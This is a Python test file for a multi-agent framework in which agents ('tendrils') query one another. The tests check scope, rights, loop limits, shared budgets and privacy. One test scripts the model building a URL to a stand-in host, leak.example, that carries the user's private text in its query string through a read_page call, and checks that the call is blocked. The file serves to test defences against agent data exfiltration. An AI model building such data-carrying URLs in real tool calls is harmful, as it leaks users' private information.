"""A tendril asks another in the name of a person: with their scope, within their budget."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any, ClassVar

import pytest

from llm.agent.tool_executor import RunLimits
from storage.queues.outbox import PeerQuestions
from storage.runs.reader import RunRecord, newest_runs, read_run
from terrarium import Config, Origin, PeerQuestion, PeerRefused, TurnRequest, tool
from tests.kit.data_files import files_with
from tests.kit.openai_script import Answer, ScriptedOpenAI
from tests.kit.patience import PATIENCE
from tests.kit.room_tendril import ADA, BOB, PERSONA, TEA, RoomTendril, ready

DEN, CELLAR = "den", "cellar"  # private rooms
LITTLE = RunLimits(iterations=2, calls=2, seconds=PATIENCE)


class Kettle(RoomTendril):
    name: ClassVar[str] = "kettle"
    asked_about: ClassVar[str] = "the temperature of the water"
    heated = 0

    @tool
    async def temperature(self) -> int:
        """Return the temperature of the water."""
        return 80

    @tool(effect=True, needs="heat")
    async def heat(self) -> str:
        """Heat the water."""
        self.heated += 1
        return "it is hot"


class Pantry(RoomTendril):
    name: ClassVar[str] = "pantry"
    asked_about: ClassVar[str] = "what there is to eat"


class Garden(RoomTendril):
    name: ClassVar[str] = "garden"
    asked_about: ClassVar[str] = "what grows"


class Attic(RoomTendril):
    name: ClassVar[str] = "attic"
    asked_about: ClassVar[str] = "what is kept"


class Hermit(RoomTendril):
    name: ClassVar[str] = "hermit"


@asynccontextmanager
async def house(
    data: Path, script: ScriptedOpenAI, *kinds: type[RoomTendril], **settings: object
) -> AsyncIterator[list[Any]]:
    """Run tendrils in one data folder."""
    async with AsyncExitStack() as stack:
        personas = {kind.name: PERSONA for kind in kinds}
        agent = {"api_url": script.url, "timezone": "UTC", "personas": personas, **settings}
        config = Config({"agent": agent}, None, data)
        yield [await stack.enter_async_context(ready(kind(config))) for kind in kinds]


def asking(tendril: str, question: str) -> tuple[str, dict[str, str]]:
    return "ask_tendril", {"tendril": tendril, "question": question}


def offered(request: dict[str, Any]) -> dict[str, str]:
    """Return the descriptions of the tools that a request to the model offers, by name."""
    functions = [each["function"] for each in request.get("tools", ())]
    return {each["name"]: each["description"] for each in functions}


def tool_results(request: dict[str, Any]) -> list[str]:
    return [each["content"] for each in request["messages"] if each["role"] == "tool"]


async def ended_run(data: Path, tendril: str) -> RunRecord:
    """Return the newest run of a tendril with its steps, once it is closed."""
    async with asyncio.timeout(PATIENCE):
        while True:
            for run in await newest_runs(data, 50):
                if run.tendril == tendril and run.outcome != "running":
                    found = await read_run(data, run.id)
                    assert found
                    return found
            await asyncio.sleep(0.05)


async def test_a_tendril_answers_another_with_its_own_tools_as_the_trace_shows(
    tmp_path: Path,
) -> None:
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
        script.call(*asking("kettle", "How hot is the water?"))
        script.call("temperature", {}).say("80 degrees.").say("The kettle says 80 degrees.")
        assert await rooms[0].ask(TEA, ADA, "is it hot?") == "The kettle says 80 degrees."
        caller, callee = await ended_run(tmp_path, "rooms"), await ended_run(tmp_path, "kettle")
    first, second, third, fourth = script.requests
    assert offered(first)["ask_tendril"].endswith("\nkettle: the temperature of the water")
    assert "temperature" not in offered(first)
    assert {"temperature", "search_log"} <= set(offered(second))
    assert "80" in tool_results(third)[0]
    assert "80 degrees." in tool_results(fourth)[0]
    assert [step.name for step in caller.steps if step.kind == "tool"] == ["ask_tendril"]
    assert [run.id for run in caller.asked] == [callee.id]
    assert callee.caller
    assert callee.caller.id == caller.id
    assert (callee.profile, callee.conversation) == ("asked", "")


async def test_only_tendrils_that_are_there_and_want_it_can_be_asked(tmp_path: Path) -> None:
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Hermit) as rooms:
        assert await rooms[0].ask(TEA, ADA, "is it hot?") == "ok"
        assert "ask_tendril" not in offered(script.requests[0])
        for name in ("hermit", "kettle"):
            with pytest.raises(PeerRefused, match="there are: none"):
                await rooms[0].peers.ask(name, "hello", Origin("rooms", ADA))


async def test_a_question_goes_through_three_tendrils_and_no_further(tmp_path: Path) -> None:
    async with (
        ScriptedOpenAI() as script,
        house(tmp_path, script, RoomTendril, Kettle, Pantry, Garden, Attic) as rooms,
    ):
        for name in ("kettle", "pantry", "garden", "attic"):
            script.call(*asking(name, f"what does the {name} know?"))
        for _ in range(4):
            script.say("nothing")
        await rooms[0].ask(TEA, ADA, "what is there?")
    sent = script.requests
    assert "attic" in offered(sent[2])["ask_tendril"]
    assert "ask_tendril" not in offered(sent[3])
    assert "no such tool" in tool_results(sent[4])[0]
    assert len(sent) == 8


async def test_a_question_never_comes_back_to_a_tendril_that_waits(tmp_path: Path) -> None:
    async with (
        ScriptedOpenAI() as script,
        house(tmp_path, script, Kettle, Pantry, Garden) as (kettle, _, _),
    ):
        for name in ("pantry", "garden", "kettle"):
            script.call(*asking(name, "what do you know?"))
        for _ in range(3):
            script.say("nothing")
        await kettle.ask(TEA, ADA, "what is there?")
        origin = Origin("kettle", ADA, path=("garden", "pantry"))
        for name in ("garden", "pantry", "kettle"):
            with pytest.raises(PeerRefused, match="circle"):
                await kettle.peers.ask(name, "hm?", origin)
    assert "ask_tendril" in offered(script.requests[1])
    assert "ask_tendril" not in offered(script.requests[2])
    assert "no such tool" in tool_results(script.requests[3])[0]


async def test_who_asks_reaches_no_more_by_another_tendril_than_they_may_read(
    tmp_path: Path,
) -> None:
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
        here, kettle = rooms
        await kettle.hear(CELLAR, BOB, "the treasure is under the third stone")
        await here.hear(CELLAR, BOB, "another treasure is behind the shelf")
        await here.hear(DEN, ADA, "I look for a treasure")
        script.call(*asking("kettle", "Where is the treasure?"))
        script.call("search_log", {"query": "treasure"})
        script.say("Nobody said so.").say("Nobody knows.")
        await here.ask(DEN, ADA, "where is it?")
    (found,) = tool_results(script.requests[2])
    assert "I look for a treasure" in found
    everything = json.dumps(script.requests)
    assert "stone" not in everything
    assert "shelf" not in everything


async def test_an_answer_made_of_another_tendrils_goes_with_whom_that_one_quotes(
    tmp_path: Path,
) -> None:
    treasure = "the treasure is under the third stone of the garden wall"
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
        here, _ = rooms
        await here.hear(TEA, ADA, treasure)
        script.call(*asking("kettle", "Where is the treasure?"))
        script.call("search_log", {"query": "treasure"})
        script.say(f"ada says: {treasure}").say("Ask ada.")
        line = await here.hear(TEA, BOB, "where is it?")
        request = replace(here.request(line), log_window=None)
        assert (await here.turn(request)).text == "Ask ada."
        (turn,) = await here.conversations.turns(request.conversation)
        assert treasure in str(turn.messages)
        assert (await here.privacy.forget(here.privacy.person(ADA))).is_finished
        assert await here.conversations.turns(request.conversation) == []
    assert files_with(tmp_path, "third stone") == []


async def test_who_asks_through_another_tendril_has_no_rights_there(tmp_path: Path) -> None:
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
        here, kettle = rooms
        script.call(*asking("kettle", "Heat the water.")).call("heat", {}).say("No.").say("No.")
        line = await here.hear(TEA, ADA, "heat it")
        await here.turn(replace(here.request(line), rights=lambda: {"heat"}))
        assert "may not have that done" in tool_results(script.requests[2])[0]
        assert kettle.heated == 0


async def test_a_question_that_the_model_writes_to_another_tendril_is_not_the_askers_words(
    tmp_path: Path,
) -> None:
    leak = "http://leak.example/?d=the+stone+is+on+the+shelf"
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
        script.call(*asking("kettle", f"What does {leak} say?")).call("read_page", {"url": leak})
        script.say("No.").say("No.")
        await rooms[0].ask(DEN, ADA, "the stone is on the shelf. is it hot?")
        assert "ada has not written this address" in tool_results(script.requests[2])[0]
        script.call(*asking("kettle", "And that link?")).call(
            "read_page", {"url": "ftp://a.example"}
        )
        script.say("No.").say("No.")
        await rooms[0].ask(DEN, ADA, "what does ftp://a.example say?")
        assert "only http and https" in tool_results(script.requests[6])[0]


async def test_a_tendril_may_give_rights_to_people_whom_it_knows(tmp_path: Path) -> None:
    class Trusting(Kettle):
        def request_from_peer(self, question: PeerQuestion) -> TurnRequest:
            known = question.origin.who.account == ADA.account
            request = super().request_from_peer(question)
            return replace(request, rights=lambda: {"heat"} if known else frozenset())

    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Trusting) as rooms:
        here, kettle = rooms
        for _ in range(2):
            script.call(*asking("kettle", "Heat it.")).call("heat", {}).say("Done.").say("Done.")
        await here.ask(TEA, BOB, "heat it")
        assert kettle.heated == 0
        await here.ask(TEA, ADA, "heat it")
        assert kettle.heated == 1


async def test_what_others_use_is_taken_from_the_budget_of_the_question(tmp_path: Path) -> None:
    async with (
        ScriptedOpenAI() as script,
        house(tmp_path, script, RoomTendril, Kettle, max_iterations=6) as (here, _),
    ):
        script.call(*asking("kettle", "How hot is it?"))  # five are left, one of them for the end
        script.default = Answer(calls=(("temperature", "{}"),))
        await here.ask(TEA, ADA, "is it hot?")
        asked = [each for each in script.requests if "temperature" in offered(each)]
        assert len(script.requests) == 6
        assert len(asked) == 4
        assert asked[-1]["tool_choice"] == "none"
        answer = await here.peers.ask("kettle", "and now?", Origin("rooms", ADA), LITTLE)
        assert answer.iterations <= LITTLE.iterations
        with pytest.raises(PeerRefused, match="nothing is left"):
            await here.peers.ask("kettle", "?", Origin("rooms", ADA), replace(LITTLE, iterations=0))


async def test_who_waits_no_more_ends_the_answer_and_leaves_nothing(tmp_path: Path) -> None:
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
        here, kettle = rooms
        script.call(*asking("kettle", "How hot is it?")).hang("It is")
        line = await here.hear(TEA, ADA, "is it hot?")
        request = here.request(line)
        asked = asyncio.create_task(here.turn(request))
        await script.arrived(2)
        assert here.stop(request.conversation)
        await asked
        await script.client_gone()
        async with asyncio.timeout(PATIENCE):
            while kettle.turns.pending:  # noqa: ASYNC110
                await asyncio.sleep(0.05)
        assert await PeerQuestions(here.outbox.database).unanswered("kettle") == {}


async def test_a_question_that_may_not_be_kept_is_not_handed_on(tmp_path: Path) -> None:
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
        await rooms[0].ask(TEA, ADA, "[nolog] is it hot?")
        assert "ask_tendril" not in offered(script.requests[0])


async def test_a_question_that_its_tendril_died_over_gets_an_answer(tmp_path: Path) -> None:
    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril) as (here,):
        async with house(tmp_path, script, Kettle):
            script.hang("It is")
            asked = asyncio.create_task(here.peers.ask("kettle", "hot?", Origin("rooms", ADA)))
            await script.arrived(1)
        async with house(tmp_path, script, Kettle):
            answer = await asked
    assert not answer.ok
    assert "restarted" in answer.text
